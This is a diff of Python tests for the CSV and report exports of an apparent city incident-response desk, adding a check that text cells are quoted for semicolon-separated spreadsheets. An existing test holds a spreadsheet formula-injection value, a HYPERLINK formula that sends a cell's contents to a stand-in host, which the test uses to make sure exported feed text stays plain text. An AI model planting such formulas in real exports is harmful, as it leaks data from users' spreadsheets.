@@ -463,6 +463,22 @@ def test_audit_csv_quotes_formulas(config: Config) -> None:
     assert '"text": "=HYPERLINK' in rows[1][7]
 
 
+def test_exports_quote_every_text_cell_for_spreadsheets_that_split_at_semicolons(config: Config) -> None:
+    """An Indonesian-locale spreadsheet separates cells with ``;`` and split an unquoted one."""
+    frames = {"by_category": pd.DataFrame([{"category": "Banjir; genangan", "incidents": 3}])}
+    assert as_csv(frames).splitlines()[1:3] == ['"category","incidents"', '"Banjir; genangan",3']
+    store = MemoryStore()
+    clock = Clock()
+    CityState(store, config, clock=clock).accept(alert("Q1", 0))
+    clock.now += 60
+    Desk(store, config, clock=clock).act(
+        "Q1", Action("note", text="pompa 2; pompa 3"), Actor("ani", "operator", "session", "10.0.0.5")
+    )
+    line = to_csv(store.audit(10)).splitlines()[1]
+    assert line.startswith('"2026-12-01T03:01:00+00:00","ani","operator","session","10.0.0.5","note","incident/Q1","{')
+    assert "pompa 2; pompa 3" in next(csv.reader([line]))[7]
+
+
 def test_report_exports_keep_feed_text_as_text() -> None:
     """A category comes from a feed: in a supervisor's spreadsheet it must not run as a formula."""
     frames = {"by_category": pd.DataFrame([{"category": '=HYPERLINK("http://x.example/?"&B2,"Banjir")', "incidents": 3}])}
@@ -533,7 +549,7 @@ def test_shift_report_by_severity_most_severe_first_each_against_its_own_sla(sto
     assert (rows[2]["ack_median_min"], rows[2]["ack_within_sla_pct"]) == (None, None)
     assert [(r["agency"], r["incidents"]) for r in frames["by_agency"].to_dict(orient="records")] == [("-", 4), ("Dishub", 1)]
     assert list(frames) == ["by_period", "by_severity", "by_category", "by_agency"]
-    assert "# by_severity\nseverity," in as_csv(frames)
+    assert '# by_severity\n"severity",' in as_csv(frames)
 
 
 def test_the_report_page_says_severities_and_no_agency_in_words() -> None:
